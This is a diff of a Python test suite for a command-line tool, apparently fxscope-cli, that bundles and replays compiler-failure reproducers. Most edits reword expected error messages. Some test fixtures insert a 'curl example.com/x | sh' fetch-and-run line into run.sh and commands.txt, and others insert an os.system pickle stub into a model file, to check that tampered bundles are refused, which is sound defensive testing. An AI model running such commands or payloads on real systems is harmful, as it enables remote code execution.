@@ -82,7 +82,7 @@ class Bundle(CliTest):
     def test_one_operation_stands_for_the_program(self):
         path = self.bundle(ATTENTION, "--reduce")
         self.assertRegex(self.said, r"bytes, 1 of [0-9]+ operations\n")
-        self.assertTrue(self.said.endswith("unpacked elsewhere and run again: fails in the same way\n"), self.said)
+        self.assertTrue(self.said.endswith("replayed after unpacking: fails in the same way\n"), self.said)
         content = members(path)
         names = [name.split("/", 1)[1] for name in content]
         self.assertEqual(names, FILES)
@@ -158,7 +158,7 @@ class Bundle(CliTest):
             for name, bytes_ in content.items():
                 archive.writestr(name, bytes_ + b" " if name.endswith("program.pt2") else bytes_)
         self.refuses("inspect", self.work / "bad.zip", code=3,
-                     message=f"{self.work}/bad.zip: the bundle was altered: program.pt2 is not what its manifest says (checksum)")
+                     message=f"{self.work}/bad.zip: the bundle was altered: program.pt2 does not match its checksum in the manifest")
         self.assertTrue(root.startswith("fxscope-masked_attention-"))
 
     def test_the_same_failure_gives_the_same_bundle_under_its_own_name(self):
@@ -198,27 +198,27 @@ class Bundle(CliTest):
         self.assertGreater(sizes["used"], 0)
         self.assertEqual(sizes["used"], sizes["all"])
         self.refuses("bundle", CUSTOM, "--to", "tosa", "-o", self.work / "x.zip", "--weights", "some", code=2,
-                     message="unknown choice of weights 'some'; it is none, used or all")
+                     message="unknown choice of weights 'some'; expected none, used or all")
 
     def test_what_cannot_be_bundled(self):
         out = self.work / "x.zip"
         addmm = SAMPLES / "addmm.pt2"
         self.refuses("bundle", addmm, "--to", "tosa", "-o", out, code=2, message=f"{addmm}: reaches tosa: there is no failure to bundle")
-        self.refuses("bundle", ATTENTION, "--to", "tosa", code=2, message="'bundle' needs -o OUT: the zip to write, or a directory")
+        self.refuses("bundle", ATTENTION, "--to", "tosa", code=2, message="'bundle' requires -o OUT: a zip file to write, or a directory")
         status, _, err = self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, "--node", "no_such")
         self.assertEqual((status, err.split(";")[0].strip()), (2, "fxscope-cli: the program has no node 'no_such'"))
         value = json.loads(self.check("normalize", ATTENTION, "--json"))
         lowers = next(n["name"] for n in value["nodes"] if n["name"].startswith("linear"))
         status, _, err = self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, "--node", lowers)
         self.assertEqual(status, 2, err)
-        self.assertIn("is not what keeps the program from tosa, and by itself it lowers", err)
+        self.assertIn("does not keep the program from tosa, and lowers by itself", err)
         self.assertEqual(self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, engine="/no/such")[0], 4)
         self.assertFalse(out.exists())
 
     def altered(self, path, what, change):
         """A bundle whose checksums are in order, and whose content is not."""
         bad = repack(path, change)
-        self.refuses("replay", bad, code=3, message=f"{bad}: the bundle was altered: {what}; nothing in it is vouched for")
+        self.refuses("replay", bad, code=3, message=f"{bad}: the bundle was altered: {what}; none of its content can be trusted")
 
     def test_altered_bundles_are_refused(self):
         path = self.bundle(ATTENTION, "--reduce")
@@ -239,16 +239,16 @@ class Bundle(CliTest):
             if name == "program.pt2":
                 continue
             with self.subTest(name):
-                self.altered(path, ("raw.mlir is not what fxscope writes for its program" if name == "raw.mlir" else
-                                    f"{name} is not what fxscope writes for its manifest and program"),
+                self.altered(path, ("raw.mlir does not match what fxscope writes for its program" if name == "raw.mlir" else
+                                    f"{name} does not match what fxscope writes for its manifest and program"),
                              lambda m, f: f.update({name: f[name] + b"\n// more\n"}))
         def runs_anything(manifest, files):
             files["run.sh"] = b"#!/bin/sh\necho fails in the same way\ncurl example.com/x | sh\n"
             files["README.md"] = b"# Reproducer: run ./run.sh\n"
             files["commands.txt"] = b"curl example.com/x | sh\n"
-        self.altered(path, "README.md, run.sh, commands.txt are not what fxscope writes for its manifest and program", runs_anything)
-        self.altered(path, "diagnostics.json is not what fxscope writes for its manifest and program", lambda m, f: f.pop("diagnostics.json"))
-        self.altered(path, "manifest.json, README.md, issue.md are not what fxscope writes for its manifest and program", lambda m, f: m.update(call_nodes=3))
+        self.altered(path, "README.md, run.sh, commands.txt do not match what fxscope writes for its manifest and program", runs_anything)
+        self.altered(path, "diagnostics.json does not match what fxscope writes for its manifest and program", lambda m, f: f.pop("diagnostics.json"))
+        self.altered(path, "manifest.json, README.md, issue.md do not match what fxscope writes for its manifest and program", lambda m, f: m.update(call_nodes=3))
 
     def test_the_program_is_held_to_what_fxscope_writes(self):
         path = self.bundle(ATTENTION, "--reduce")
@@ -258,7 +258,7 @@ class Bundle(CliTest):
                 for info in old.infolist():
                     new.writestr(info.filename, b"\x80\x02cos\nsystem\n." if info.filename.endswith("sample_inputs/model.pt") else old.read(info))
             files["program.pt2"] = out.getvalue()
-        self.altered(path, "program.pt2 is not what fxscope writes for its manifest and program", with_a_pickle)
+        self.altered(path, "program.pt2 does not match what fxscope writes for its manifest and program", with_a_pickle)
 
     def test_no_other_file_is_in_a_bundle(self):
         path = self.bundle(ATTENTION, "--reduce")
@@ -272,16 +272,16 @@ class Bundle(CliTest):
             files["run.sh"] = b"#!/bin/sh\n"
         status, out, err = self.run_cli("replay", repack(path, older))
         self.assertEqual((status, err), (1, ""), out)
-        self.assertIn("not checked, for fxscope 0.0.9 wrote them, this is ", out)
-        self.assertTrue(out.endswith("\nfails in the same way; only that is vouched for: its files were not checked, run.sh neither\n"), out)
+        self.assertIn("not checked, because fxscope 0.0.9 wrote them, this is ", out)
+        self.assertTrue(out.endswith("\nfails in the same way; only that was verified: its files, including run.sh, were not checked\n"), out)
         value = self.check_json("replay", self.run_cli("replay", repack(path, older), "--json")[1])
         self.assertEqual((value["outcome"], value["vouched"], value["files"]["checked"]), ("same-failure", False, []))
 
     def test_blanks_are_no_module(self):
         path = self.bundle(ATTENTION, "--reduce")
         for blank in (b"   \n\n", b"", b"module {\n}\n", b"// func.func @main\n"):
-            self.altered(path, "raw.mlir is not what fxscope writes for its program", lambda m, f: f.update({"raw.mlir": blank}))
-            self.altered(path, "raw.mlir holds no function 'main'", lambda m, f: (m.update(tool="0.0.9"), f.update({"raw.mlir": blank})))
+            self.altered(path, "raw.mlir does not match what fxscope writes for its program", lambda m, f: f.update({"raw.mlir": blank}))
+            self.altered(path, "raw.mlir has no function 'main'", lambda m, f: (m.update(tool="0.0.9"), f.update({"raw.mlir": blank})))
 
     def test_a_bundle_may_lower_limits_and_never_raise_them(self):
         path = self.bundle(ATTENTION, "--reduce")
@@ -299,13 +299,13 @@ class Bundle(CliTest):
         self.assertEqual(memory(1 << 30)[0], 1024)
         status, out, _ = self.run_cli("replay", path, "--timeout", "60", "--memory", "4G")
         self.assertEqual(status, 0)
-        self.assertIn("\nlimits: it asks for 120 s a stage, and gets 60 s (--timeout); it asks for 8192 MiB, and gets 4096 MiB (--memory)\n", out)
+        self.assertIn("\nlimits: 120 s per stage requested, 60 s allowed (--timeout); 8192 MiB requested, 4096 MiB allowed (--memory)\n", out)
 
     def test_what_only_its_own_engine_can_say_is_named(self):
         path = self.bundle(ATTENTION, "--reduce")
-        self.assertIn("\nfiles: 14 of 14 are what fxscope writes for it\n", self.check("replay", path))
+        self.assertIn("\nfiles: 14 of 14 match what fxscope writes for this program and manifest\n", self.check("replay", path))
         out = self.check("replay", path, "--engine", self.wrapped_engine())
-        self.assertIn("\nnot checked, for they hold what the engine it was made with did: input.mlir failure.mlir engine.txt diagnostics.txt "
+        self.assertIn("\nnot checked, because they record the behaviour of the engine of the bundle: input.mlir failure.mlir engine.txt diagnostics.txt "
                       "diagnostics.json\n", out)
 
     def private_program(self):
@@ -320,7 +320,7 @@ class Bundle(CliTest):
         for options in ((), ("--reduce",)):
             path = self.bundle(self.private_program(), *options)
             if not options:  # what is reduced has no metadata to lose
-                self.assertRegex(self.said, r"\nleft out, for it looked private [^\n]*\n  [0-9]+ paths under a home folder \(now net.py\)\n")
+                self.assertRegex(self.said, r"\nremoved as private or unneeded [^\n]*\n  [0-9]+ paths under a home folder \(now net.py\)\n")
                 self.assertRegex(self.said, r"\n  [0-9]+ keys or passwords \(now redacted_token_1\)\n")
                 self.assertRegex(self.said, r"\n  metadata 'acme_owner' of [0-9]+ operations?\n  metadata 'custom' of [0-9]+ operations?\n$")
             everything = dict(members(path))
@@ -410,7 +410,7 @@ class Bundle(CliTest):
         done = subprocess.run([CLI, "bundle", ATTENTION, "--to", "tosa", "--reduce", "-o", place / "b.zip"], capture_output=True, text=True,
                               env=self.environment(ENGINE), preexec_fn=small_files, restore_signals=False, timeout=120)
         self.assertEqual((done.returncode, done.stdout), (2, ""), done.stderr)
-        self.assertEqual(done.stderr, f"fxscope-cli: {place}/b.zip: cannot be written to its end: File too large\n")
+        self.assertEqual(done.stderr, f"fxscope-cli: {place}/b.zip: cannot be written completely: File too large\n")
         self.assertEqual((self.left(place), (place / "b.zip").read_text()), (["b.zip"], "before"))
 
     def test_an_engine_that_is_killed_is_a_crash_like_any_other(self):
@@ -450,11 +450,11 @@ sys.exit(subprocess.run([{ENGINE!r}, *sys.argv[1:]], input="// -----\\n".join(pa
                           f'exec {ENGINE} "$@"\n')
         fickle.chmod(0o755)
         path = self.bundle(ATTENTION, "--reduce", code=1, engine=fickle)
-        self.assertTrue(self.said.endswith("\nis no reproducer: run again, it does not fail\n"), self.said)
+        self.assertTrue(self.said.endswith("\nis no reproducer: when run again, it does not fail\n"), self.said)
         content = {name.split("/", 1)[1]: text for name, text in members(path).items()}
         self.assertIs(json.loads(content["manifest.json"])["verified"], False)
         self.assertNotIn(b"eproducer: ", content["README.md"].replace(b"is no reproducer: ", b""))
-        self.assertIn(b"is no reproducer: run again, it does not fail", content["README.md"])
+        self.assertIn(b"is no reproducer: when run again, it does not fail", content["README.md"])
 
     def test_a_stop_leaves_nothing(self):
         place = self.work / "place"
